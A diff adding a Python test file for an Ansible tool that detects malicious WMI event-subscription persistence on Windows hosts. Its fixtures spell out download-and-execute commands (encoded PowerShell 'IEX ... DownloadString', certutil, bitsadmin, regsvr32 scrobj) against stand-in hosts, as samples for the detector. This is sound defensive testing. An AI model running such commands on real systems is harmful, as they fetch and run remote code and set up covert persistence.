@@ -1,0 +1,266 @@
+# GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
+from __future__ import annotations
+
+import base64
+
+import pytest
+from ansible_collections.winsec.wmi.plugins.plugin_utils._control import HostContext
+from ansible_collections.winsec.wmi.plugins.plugin_utils._event_subscriptions import (
+    EventConsumer,
+    EventSubscriptions,
+    builtins_for,
+    classify,
+    consumer_indicators,
+    decode_encoded_command,
+    known_subscriptions,
+    parse_inventory,
+)
+from ansible_collections.winsec.wmi.plugins.plugin_utils._os_profile import os_profile
+from ansible_collections.winsec.wmi.plugins.plugin_utils._wmi_errors import WmiActionError, WmiOperationError
+
+SUB = "root\\subscription"
+FACTS_2022 = {"os_caption": "Microsoft Windows Server 2022", "os_version": "10.0.20348", "os_build": 20348}
+FACTS_2003 = {"os_caption": "Microsoft Windows Server 2003", "os_version": "5.2.3790", "os_build": 3790}
+
+
+def host(facts=FACTS_2022):
+    return HostContext(facts, os_profile(facts), check_mode=True, diff_mode=False, enforce=False)
+
+
+def scm(consumer_class="NTEventLogEventConsumer", query="select * from MSFT_SCMEventLogEvent", **consumer_fields):
+    return {
+        "filters": [
+            {"namespace": SUB, "name": "SCM Event Log Filter", "query": query, "event_namespace": "root\\cimv2"}
+        ],
+        "consumers": [{"namespace": SUB, "name": "SCM Event Log Consumer", "class": consumer_class, **consumer_fields}],
+        "bindings": [
+            {
+                "namespace": SUB,
+                "filter": "SCM Event Log Filter",
+                "consumer": "SCM Event Log Consumer",
+                "consumer_class": consumer_class,
+            }
+        ],
+    }
+
+
+def encoded(text):
+    return base64.b64encode(text.encode("utf-16-le")).decode()
+
+
+def run(result, facts=FACTS_2022, **options):
+    control = EventSubscriptions.from_options(options)
+    return control.decide(host(facts), [{"op": "event_subscriptions", "failed": False, **result}])
+
+
+def test_builtin_scm_consumer_is_compliant():
+    decision = run(scm())
+    assert decision.status == "compliant"
+    (subscription,) = decision.result["subscriptions"]
+    assert subscription["classification"] == "builtin"
+    assert decision.findings == []
+
+
+def test_malicious_consumer_named_like_the_builtin_is_not_builtin():
+    # Same names as the built-in pair, but a CommandLineEventConsumer: the binding's reference carries the class.
+    decision = run(scm("CommandLineEventConsumer", command_line_template="cmd /c calc.exe"))
+    assert decision.status == "drift"
+    (subscription,) = decision.result["subscriptions"]
+    assert subscription["classification"] == "suspicious"
+    ids = {reason["id"] for reason in subscription["reasons"]}
+    assert "code_running_consumer" in ids
+    assert decision.findings[0]["id"] == "suspicious_event_consumer"
+
+
+def test_builtin_pair_with_an_impostor_binding_joins_by_class():
+    # The real SCM consumer exists, and a CommandLine consumer with the same name is bound to the SCM filter.
+    result = scm()
+    result["consumers"].append(
+        {
+            "namespace": SUB,
+            "name": "SCM Event Log Consumer",
+            "class": "CommandLineEventConsumer",
+            "command_line_template": "powershell -enc " + encoded("IEX (iwr http://x/a)"),
+        }
+    )
+    result["bindings"].append(
+        {
+            "namespace": SUB,
+            "filter": "SCM Event Log Filter",
+            "consumer": "SCM Event Log Consumer",
+            "consumer_class": "CommandLineEventConsumer",
+        }
+    )
+    decision = run(result)
+    by_class = {s["consumer"]["class"]: s["classification"] for s in decision.result["subscriptions"]}
+    assert by_class == {"NTEventLogEventConsumer": "builtin", "CommandLineEventConsumer": "suspicious"}
+    assert decision.status == "drift"
+
+
+def test_builtin_with_a_changed_query_is_no_longer_builtin():
+    decision = run(scm(query="SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA 'Win32_Process'"))
+    (subscription,) = decision.result["subscriptions"]
+    assert subscription["classification"] == "unrecognised"
+    assert decision.status == "drift"
+
+
+def test_builtins_depend_on_the_os():
+    assert [k.consumer for k in builtins_for(os_profile(FACTS_2022), None)] == ["SCM Event Log Consumer"]
+    assert [k.consumer for k in builtins_for(os_profile(FACTS_2003), None)] == ["BVTConsumer"]
+    bvt = {
+        "filters": [{"namespace": SUB, "name": "BVTFilter", "query": "SELECT * FROM x"}],
+        "consumers": [
+            {
+                "namespace": SUB,
+                "name": "BVTConsumer",
+                "class": "CommandLineEventConsumer",
+                "command_line_template": "cscript KernCap.vbs",
+            }
+        ],
+        "bindings": [
+            {
+                "namespace": SUB,
+                "filter": "BVTFilter",
+                "consumer": "BVTConsumer",
+                "consumer_class": "CommandLineEventConsumer",
+            }
+        ],
+    }
+    assert run(bvt, FACTS_2003).status == "compliant"
+    # BVT never shipped with Server 2022: there it is a command-line consumer running cscript.
+    assert run(bvt, FACTS_2022).status == "drift"
+
+
+def test_builtin_list_is_overridable():
+    decision = run(scm(), builtin=[])
+    assert decision.status == "drift"
+    assert decision.result["subscriptions"][0]["classification"] == "unrecognised"
+
+
+def test_allow_list_needs_the_class_and_matches_by_it():
+    with pytest.raises(WmiActionError, match="consumer_class"):
+        known_subscriptions([{"consumer": "Backup"}], "allowed")
+    result = {
+        "filters": [{"namespace": SUB, "name": "Nightly", "query": "SELECT * FROM __TimerEvent"}],
+        "consumers": [
+            {
+                "namespace": SUB,
+                "name": "Backup",
+                "class": "CommandLineEventConsumer",
+                "command_line_template": "C:\\Program Files\\Backup\\run.exe",
+            }
+        ],
+        "bindings": [
+            {"namespace": SUB, "filter": "Nightly", "consumer": "Backup", "consumer_class": "CommandLineEventConsumer"}
+        ],
+    }
+    allowed = run(result, allowed=[{"consumer": "backup", "consumer_class": "commandlineeventconsumer"}])
+    assert allowed.status == "compliant"
+    assert allowed.result["subscriptions"][0]["classification"] == "allowed"
+    other_class = run(result, allowed=[{"consumer": "Backup", "consumer_class": "LogFileEventConsumer"}])
+    assert other_class.status == "drift"
+
+
+@pytest.mark.parametrize(
+    ("command_line", "indicator"),
+    [
+        ("powershell.exe -NoP -W Hidden -Enc " + encoded("Write-Host hi"), "encoded_powershell"),
+        ("powershell -e " + encoded("whoami"), "encoded_powershell"),
+        ("powershell -EncodedCommand " + encoded("whoami"), "encoded_powershell"),
+        ('mshta.exe vbscript:Execute("x")', "lolbin"),
+        ("C:\\Windows\\System32\\rundll32.exe javascript:foo", "lolbin"),
+        ("regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "network_path"),
+        ("certutil -urlcache -f http://x/a a.exe", "downloads"),
+        ("bitsadmin /transfer j http://x/a C:\\a.exe", "lolbin"),
+        ("\\\\fileserver\\share\\payload.exe", "network_path"),
+        ("powershell -c \"IEX (New-Object Net.WebClient).DownloadString('http://x')\"", "downloads"),
+        ("C:\\Users\\Public\\run.exe", "user_writable_path"),
+    ],
+)
+def test_command_line_indicators(command_line, indicator):
+    consumer = EventConsumer(SUB, "x", "CommandLineEventConsumer", command_line_template=command_line)
+    assert indicator in {found.id for found in consumer_indicators(consumer)}
+
+
+def test_encoded_command_is_decoded_and_scanned():
+    payload = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"
+    consumer = EventConsumer(
+        SUB, "x", "CommandLineEventConsumer", command_line_template=f"powershell -enc {encoded(payload)}"
+    )
+    found = {indicator.id: indicator for indicator in consumer_indicators(consumer)}
+    assert "198.51.100.7" in (found["encoded_powershell"].evidence or "")
+    assert {"downloads", "network_path"} <= set(found)
+    assert decode_encoded_command("not base64!") is None
+
+
+@pytest.mark.parametrize(
+    ("script", "indicator"),
+    [
+        ('Set sh = CreateObject("WScript.Shell")\nsh.Run "calc.exe", 0', "executes"),
+        ('Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://x/a"', "downloads"),
+        ('var s = new ActiveXObject("Shell.Application"); s.ShellExecute("cmd")', "executes"),
+    ],
+)
+def test_script_indicators(script, indicator):
+    consumer = EventConsumer(SUB, "x", "ActiveScriptEventConsumer", script_text=script, scripting_engine="VBScript")
+    ids = [found.id for found in consumer_indicators(consumer)]
+    assert ids[0] == "code_running_consumer"
+    assert indicator in ids
+
+
+def test_log_file_consumer_without_indicators_is_unrecognised_not_suspicious():
+    consumer = EventConsumer(SUB, "disklog", "LogFileEventConsumer", properties={"Filename": "C:\\logs\\disk.log"})
+    assert consumer_indicators(consumer) == []
+    custom = EventConsumer(SUB, "agent", "ContosoAgentConsumer")
+    assert [i.id for i in consumer_indicators(custom)] == ["custom_consumer_class"]
+
+
+def test_orphans():
+    result = {
+        "filters": [{"namespace": SUB, "name": "Lonely", "query": "SELECT * FROM __TimerEvent"}],
+        "consumers": [
+            {
+                "namespace": SUB,
+                "name": "Staged",
+                "class": "CommandLineEventConsumer",
+                "command_line_template": "cmd /c whoami",
+            }
+        ],
+        "bindings": [
+            {"namespace": SUB, "filter": "Gone", "consumer": "AlsoGone", "consumer_class": "CommandLineEventConsumer"}
+        ],
+    }
+    classified = classify(parse_inventory([result]), builtins=[])
+    assert [f.name for f in classified.orphan_filters] == ["Lonely"]
+    assert [b.consumer for b in classified.orphan_bindings] == ["AlsoGone"]
+    assert [c.name for c in classified.unbound_consumers] == ["Staged"]
+    decision = run(result)
+    ids = sorted(f["id"] for f in decision.findings)
+    assert ids == ["orphan_binding", "orphan_filter", "suspicious_event_consumer"]
+    staged = next(f for f in decision.findings if f["id"] == "suspicious_event_consumer")
+    assert staged["state"] == "inactive"
+
+
+def test_binding_without_class_joins_by_unique_name_and_says_so():
+    result = scm()
+    del result["bindings"][0]["consumer_class"]
+    decision = run(result)
+    (subscription,) = decision.result["subscriptions"]
+    assert subscription["classification"] == "builtin"
+    assert "joined by name only" in subscription["problems"][0]
+
+
+def test_failed_read_raises():
+    control = EventSubscriptions()
+    failed = {"op": "event_subscriptions", "failed": True, "error": {"code": "WMI", "hresult": 0x8004100E}}
+    with pytest.raises(WmiOperationError):
+        control.decide(host(), [failed])
+
+
+def test_reads_are_one_operation():
+    assert EventSubscriptions().reads() == [
+        {"op": "event_subscriptions", "namespaces": ["root\\subscription", "root\\default"]}
+    ]
+    assert EventSubscriptions(namespaces=["root"], recurse=True).reads() == [
+        {"op": "event_subscriptions", "namespaces": ["root"], "recurse": True}
+    ]
